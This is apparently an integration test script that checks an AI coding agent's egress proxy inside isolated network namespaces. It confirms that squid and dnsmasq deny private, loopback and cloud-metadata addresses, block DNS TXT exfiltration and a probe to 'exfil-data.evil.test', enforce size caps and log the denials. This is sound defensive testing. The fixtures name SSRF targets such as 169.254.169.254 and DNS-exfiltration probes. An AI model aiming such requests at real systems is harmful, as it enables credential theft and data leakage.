#!/usr/bin/env bash
# SPDX-License-Identifier: MIT
# The egress proxy (squid + dnsmasq from `coding-agents proxy`) inside a closed network of
# namespaces (tests/netns/topology.sh): no packet leaves the machine. Every forbidden host is
# reachable directly from inside the topology, so each denial is squid's doing; it is denied
# through squid by name (an allowed name resolving to it) and by literal address, with a
# proxy-denied event, and the upstream never sees the request.
set -euo pipefail
# shellcheck source=tests/integration/lib.sh
. "$(dirname "$0")/lib.sh"
# shellcheck source=tests/netns/topology.sh
. "$(dirname "$0")/../netns/topology.sh"

missing=$(topo_missing | tr '\n' ' ')
[ -z "$missing" ] || skip "needs: $missing"

# KEEP=1 leaves the test directory (logs, rendered files) for a look afterwards.
trap 'topo_down; [ -n "${KEEP:-}" ] || cleanup_tmp' EXIT

log="$CODING_AGENTS_CONFIG_DIR/security-events.log"
cat >"$TEST_TMP/config.toml" <<'TOML'
[network]
# Every test name is allowed: the forbidden ones must be stopped by their resolved address.
allow_domains = ["allowed.test", "ten.test", "sixteen.test", "oneninetwo.test", "cgnat.test",
                 "alimeta.test", "meta.test", "linklocal.test", "loop.test", "zero.test",
                 "v6meta.test", "ula.test", "nat64.test", ".sub.allowed.test"]
TOML
# Squid drops to its own user: it must be able to enter the rendered directory.
mkdir -m 0755 "$TEST_TMP/topo"
chmod 0711 "$TEST_TMP"
topo_up "$TEST_TMP/topo" "$TEST_TMP/config.toml"
px="$TEST_TMP/topo/proxy"
up_log="$TEST_TMP/topo/upstream.log"

# through URL...: curl from the agent namespace through squid; body to out, code to code.
through() {
        in_agent curl -s -m 30 -x "$TOPO_PROXY_URL" -o "$TEST_TMP/body" -w '%{http_code} %{size_download}' \
                "$@" >"$TEST_TMP/code" 2>/dev/null || true
}

expect_code() {
        local want=$1 got
        got=$(cut -d' ' -f1 "$TEST_TMP/code")
        if [ "$got" != "$want" ]; then
                fail "$2: status $got, expected $want ($(head -c 200 "$TEST_TMP/body"))"
                return 1
        fi
        pass
}

# The agent namespace has no route and no resolver of its own: only the proxy.
check "agent reaches the allowed host directly" \
        bash -c "! ip netns exec $TOPO_AGENT curl -s -m 5 http://198.51.100.10/ >/dev/null 2>&1"

# The allowed host, over HTTP and CONNECT, and without Via / X-Forwarded-For.
through http://allowed.test/via-proxy-ok
expect_code 200 "allowed host over HTTP"
through -p http://allowed.test:443/via-proxy-connect
expect_code 200 "allowed host through CONNECT"
expect_grep 'GET allowed.test /via-proxy-ok$' "$up_log"
expect_grep 'GET allowed.test:443 /via-proxy-connect$' "$up_log"
through http://allowed.test/headers
expect_code 200 "headers"
expect_no_grep '^(Via|X-Forwarded-For|Forwarded):' "$TEST_TMP/body"

# Each forbidden host: direct from the proxy's namespace works (the block is squid's), by
# name and by literal address through squid is denied with the rule's page.
while read -r name addr rule; do
        url_addr=$addr
        case "$addr" in *:*) url_addr="[$addr]" ;; esac
        if [ "$addr" != 127.0.0.1 ]; then
                check "$addr reachable directly inside the topology" \
                        in_proxy curl -s -m 5 -o /dev/null -g "http://$url_addr/direct"
        fi
        through "http://$name/via-proxy-$name"
        expect_code 403 "$name ($addr) by name" &&
                expect_grep "access denied \\(rule: $rule\\)" "$TEST_TMP/body"
        through -g "http://$url_addr/via-proxy-literal-$name"
        expect_code 403 "$addr by literal address" &&
                expect_grep "access denied \\(rule: $rule\\)" "$TEST_TMP/body"
        expect_no_grep "via-proxy-(literal-)?$name" "$up_log"
done <<'EOF'
ten.test 10.0.0.5 private-address
sixteen.test 172.16.0.5 private-address
oneninetwo.test 192.168.0.5 private-address
cgnat.test 100.64.0.5 cgnat
alimeta.test 100.100.100.200 metadata
meta.test 169.254.169.254 metadata
linklocal.test 169.254.10.10 link-local
loop.test 127.0.0.1 loopback
zero.test 0.0.0.1 special-address
v6meta.test fd00:ec2::254 metadata
ula.test fd12:3456::5 private-address
nat64.test 64:ff9b::a00:5 embedded-ipv4
EOF
# An IPv4-mapped IPv6 literal is judged as the IPv4 address it carries.
through -g "http://[::ffff:10.0.0.5]/via-proxy-mapped"
expect_code 403 "IPv4-mapped literal" && expect_grep 'rule: private-address' "$TEST_TMP/body"

# Not allowed: a name, a subdomain of an exact entry, a port, a CONNECT port, a long label.
through http://nope.test/via-proxy-nope
expect_code 403 "a name not allowed" && expect_grep 'rule: domain' "$TEST_TMP/body"
through http://www.allowed.test/via-proxy-www
expect_code 403 "a subdomain of an exact entry" && expect_grep 'rule: domain' "$TEST_TMP/body"
through http://allowed.test:8080/via-proxy-port
expect_code 403 "a port not allowed" && expect_grep 'rule: port' "$TEST_TMP/body"
in_agent curl -s -m 30 -p -x "$TOPO_PROXY_URL" -w '%{http_connect}' -o /dev/null \
        http://allowed.test:80/via-proxy-connect80 >"$TEST_TMP/code" 2>/dev/null || true
check "CONNECT to port 80 refused" grep -qx 403 "$TEST_TMP/code"
label=$(printf 'a%.0s' $(seq 64))
through "http://$label.sub.allowed.test/"
expect_code 403 "a 64-byte label" && expect_grep 'rule: bad-name' "$TEST_TMP/body"
expect_no_grep "query\\[A+\\] $label" "$px/run/dnsmasq.log"

# The resolver: TXT data never comes back (the world has some), other names are NXDOMAIN
# without being forwarded, and the agent has no resolver at all.
in_world dig +short @203.0.113.2 allowed.test TXT >"$TEST_TMP/world-txt"
expect_grep exfiltrated-by-txt "$TEST_TMP/world-txt"
in_proxy dig +tries=1 +time=5 @127.0.0.1 allowed.test TXT >"$TEST_TMP/txt" || true
expect_grep 'ANSWER: 0' "$TEST_TMP/txt"
expect_no_grep exfiltrated "$TEST_TMP/txt"
in_proxy dig +tries=1 +time=5 @127.0.0.1 exfil-data.evil.test A >"$TEST_TMP/nx" || true
expect_grep 'status: NXDOMAIN' "$TEST_TMP/nx"
expect_no_grep 'forwarded exfil-data' "$px/run/dnsmasq.log"
check "the agent namespace resolves nothing" \
        bash -c "! ip netns exec $TOPO_AGENT dig +tries=1 +time=2 @192.0.2.2 allowed.test >/dev/null 2>&1"

# Size caps: 10 MB requests and 100 MB replies pass; one byte more is refused by squid.
head -c $((10 << 20)) /dev/zero >"$TEST_TMP/exact"
head -c $(((10 << 20) + 1)) /dev/zero >"$TEST_TMP/over"
through --data-binary @"$TEST_TMP/exact" http://allowed.test/upload-exact
expect_code 200 "a 10 MB upload" && expect_grep '^10485760$' "$TEST_TMP/body"
through --data-binary @"$TEST_TMP/over" http://allowed.test/upload-over
expect_code 413 "a 10 MB + 1 upload" && expect_grep 'Request bodies are limited to 10 MB' "$TEST_TMP/body"
expect_no_grep 'upload-over' "$up_log"
through http://allowed.test/size/$((100 << 20))
check "a 100 MB download arrives whole" grep -q "^200 $((100 << 20))$" "$TEST_TMP/code"
through http://allowed.test/size/$(((100 << 20) + 1))
expect_code 403 "a 100 MB + 1 download" && expect_grep 'Responses are limited to 100 MB' "$TEST_TMP/body"
# Without a length squid can only cut the stream once past the cap (it writes in 4 KB steps
# past it): a 100 MB chunked reply passes whole, a 101 MB one is cut short.
through http://allowed.test/chunked/$((100 << 20))
check "a chunked 100 MB download arrives whole" grep -q "^200 $((100 << 20))$" "$TEST_TMP/code"
through http://allowed.test/chunked/$((101 << 20))
check "a chunked 101 MB download is cut short ($(cat "$TEST_TMP/code"))" \
        bash -c "[ \$(cut -d' ' -f2 '$TEST_TMP/code') -lt $((101 << 20)) ]"

# Events: every denial and limit from the logs, once; malformed lines counted, not fatal.
expect_status 0 "$CA_BIN" proxy events --dir "$px"
cp "$TEST_TMP/out" "$TEST_TMP/events"
expect_grep '^proxy-denied .*"address":"10.0.0.5".*"host":"ten.test".*"rule":"private-address"' "$TEST_TMP/events"
expect_grep '^proxy-denied .*"address":"fd00:ec2::254".*"host":"v6meta.test".*"rule":"metadata"' "$TEST_TMP/events"
expect_grep '^proxy-denied .*"address":"169.254.169.254".*"host":"169.254.169.254".*"rule":"metadata"' "$TEST_TMP/events"
expect_grep '^proxy-denied .*"host":"nope.test".*"rule":"domain"' "$TEST_TMP/events"
expect_grep '^proxy-denied .*"client":"192.0.2.1"' "$TEST_TMP/events"
expect_grep '^proxy-limit .*"action":"refused".*"limit":"request-body","max":10485760.*"size":10485761' "$TEST_TMP/events"
expect_grep '^proxy-limit .*"action":"refused".*"limit":"reply-body","max":104857600' "$TEST_TMP/events"
expect_grep '^proxy-limit .*"action":"cut".*"limit":"reply-body","max":104857600.*"received":' "$TEST_TMP/events"
check "exactly one cut event (the 100 MB chunked reply is not one)" \
        [ "$(grep -c '"action":"cut"' "$TEST_TMP/events")" = 1 ]
expect_grep '^dns-denied .*"name":"allowed.test","reason":"record-type","type":"TXT"' "$TEST_TMP/events"
expect_grep '^dns-denied .*"name":"exfil-data.evil.test","reason":"not-allowed"' "$TEST_TMP/events"
expect_grep ' 0 malformed$' "$TEST_TMP/err"
n=$(grep -c '' "$TEST_TMP/events")
check "events were written to the log" [ "$(grep -c '"type":"proxy-denied"' "$log")" -ge 26 ]

# A second run starts where the first stopped; a garbage line is counted, in an event of its
# own (never dropped silently), and nothing breaks.
printf 'garbage \x01 line\n' >>"$px/run/access.log"
expect_status 0 "$CA_BIN" proxy events --dir "$px"
check "something emitted twice: $(cat "$TEST_TMP/out")" [ "$(grep -vc '^proxy-log-malformed ' "$TEST_TMP/out")" = 0 ]
expect_grep '^proxy-log-malformed .*"lines":1,"reason":"unparsable","total":1' "$TEST_TMP/out"
expect_grep '1 lines read, 1 events, 1 malformed' "$TEST_TMP/err"
expect_grep '"type":"proxy-log-malformed"' "$log"
# 100k denials (the agent decides how many requests squid refuses): a bounded log.
denial=$(grep -m1 'ERR_CA_' "$px/run/access.log")
check "no denial line to repeat" test -n "$denial"
before=$(wc -l <"$log")
"$CA_PYTHON3" -c 'import sys; sys.stdout.write((sys.argv[1] + "\n") * 100000)' "$denial" >>"$px/run/access.log"
expect_status 0 "$CA_BIN" proxy events --dir "$px"
expect_grep '100000 lines read' "$TEST_TMP/err"
check "100k denials added $(($(wc -l <"$log") - before)) events" test $(($(wc -l <"$log") - before)) -le 10
expect_grep '"summary":true,"suppressed":[0-9]{5}}.*"type":"proxy-denied"' "$log"
expect_status 0 "$CA_BIN" events verify

# --follow picks up new lines as they are written and stops cleanly on SIGTERM.
mkfifo "$TEST_TMP/follow.fifo"
"$CA_BIN" proxy events --dir "$px" --follow >"$TEST_TMP/follow.fifo" 2>"$TEST_TMP/follow.err" &
follower=$!
exec {ffd}<"$TEST_TMP/follow.fifo"
through http://nope2.test/late
IFS= read -r -u "$ffd" line || line=""
case "$line" in
*'"name":"nope2.test"'* | *'"host":"nope2.test"'*) pass ;;
*) fail "follow: got '$line'" ;;
esac
kill "$follower"
if wait "$follower"; then pass; else fail "proxy events --follow did not exit 0 on SIGTERM"; fi
exec {ffd}<&-

# Bad input.
expect_status 2 "$CA_BIN" proxy config --out "$TEST_TMP/x" --resolver not-an-ip --config "$TEST_TMP/config.toml"
expect_grep "bad resolver 'not-an-ip'" "$TEST_TMP/err"
check "nothing written on bad input" [ ! -e "$TEST_TMP/x" ]
expect_status 1 "$CA_BIN" proxy config --out "$px" --resolver 192.0.2.53 --config "$TEST_TMP/config.toml"
expect_grep 'exists and is not an empty directory' "$TEST_TMP/err"
printf '[network]\nallow_domains = ["Bad Domain"]\n' >"$TEST_TMP/bad.toml"
expect_status 2 "$CA_BIN" proxy config --out "$TEST_TMP/y" --resolver 192.0.2.53 --config "$TEST_TMP/bad.toml"
expect_grep "bad.toml:2:18: bad domain" "$TEST_TMP/err"
expect_status 2 "$CA_BIN" proxy events
expect_status 2 "$CA_BIN" proxy run --dir "$TEST_TMP/topo/nonexistent" --squid squid
# A configuration squid refuses stops the supervisor before anything starts (squid -k parse's
# status counts, not just whether squid could be run).
expect_status 0 "$CA_BIN" proxy config --out "$TEST_TMP/refused-px" --root "$TEST_TMP/refused-px" \
        --resolver 192.0.2.53 --config "$TEST_TMP/config.toml"
printf 'bogus_directive_x on\n' >>"$TEST_TMP/refused-px/squid.conf"
expect_status 1 "$CA_BIN" proxy run --dir "$TEST_TMP/refused-px"
expect_grep "squid refused the configuration .*squid -k parse exited with status 1" "$TEST_TMP/err"
expect_grep "unrecognized: 'bogus_directive_x'" "$TEST_TMP/err"
check "squid or dnsmasq started for a refused configuration" \
        [ ! -e "$TEST_TMP/refused-px/run/squid.pid" ] && [ ! -e "$TEST_TMP/refused-px/run/dnsmasq.pid" ]

# proxy run: SIGTERM stops squid and dnsmasq and exits 0; if one of them dies, the other is
# stopped and it exits 1.
proxy_pid=${TOPO_PIDS[1]}
kill "$proxy_pid"
if wait "$proxy_pid"; then pass; else fail "proxy run did not exit 0 on SIGTERM"; fi
check "nothing left running in the proxy namespace" [ -z "$(ip netns pids "$TOPO_PX")" ]
mkfifo "$TEST_TMP/again.fifo"
ip netns exec "$TOPO_PX" "$CA_BIN" proxy run --dir "$px" >"$TEST_TMP/again.fifo" \
        2>"$TEST_TMP/again.err" &
again=$!
topo_wait_ready "$TEST_TMP/again.fifo" "proxy ready"
kill "$(cat "$px/run/dnsmasq.pid")"
status=0
wait "$again" || status=$?
check "proxy run exits 1 when dnsmasq dies (got $status)" [ "$status" = 1 ]
expect_grep 'dnsmasq exited unexpectedly' "$TEST_TMP/again.err"
check "squid was stopped with it" [ -z "$(ip netns pids "$TOPO_PX")" ]

echo "events seen: $n"
finish
